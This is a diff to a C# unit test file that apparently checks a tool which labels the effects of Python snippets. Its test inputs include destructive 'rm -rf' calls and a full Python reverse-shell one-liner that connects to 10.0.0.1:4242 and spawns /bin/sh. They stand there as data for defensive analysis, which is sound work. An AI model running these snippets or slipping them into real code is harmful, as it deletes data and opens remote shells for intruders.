@@ -31,8 +31,8 @@ public sealed class PythonTests
     [InlineData("from subprocess import Popen, PIPE; Popen(['bash','-c','rm -rf build'], stdout=PIPE)", "delete+ build")]
     [InlineData("import os; os.execvp('rm', ['rm','-rf','build'])", "delete+ build")]
     [InlineData("import os; os.execl('/bin/rm', 'rm', '-rf', 'build')", "delete+ build")]
-    [InlineData("import pty; pty.spawn('/bin/bash')", "execute a shell")]
-    [InlineData("import socket,os,pty;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"10.0.0.1\",4242));os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")", "open-socket 10.0.0.1:4242, execute-hidden-code shell, execute a shell")]
+    [InlineData("import pty; pty.spawn('/bin/bash')", "execute a shell, execute-hidden-code bash")]
+    [InlineData("import socket,os,pty;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"10.0.0.1\",4242));os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")", "open-socket 10.0.0.1:4242, execute-hidden-code shell, execute a shell, execute-hidden-code sh")]
     [InlineData("import subprocess\nsubprocess.run(['rm','x'], cwd='/etc')", "delete /etc/x")]
     public void Programs(string code, string effects) => Assert.Equal(effects, Of(code));
 
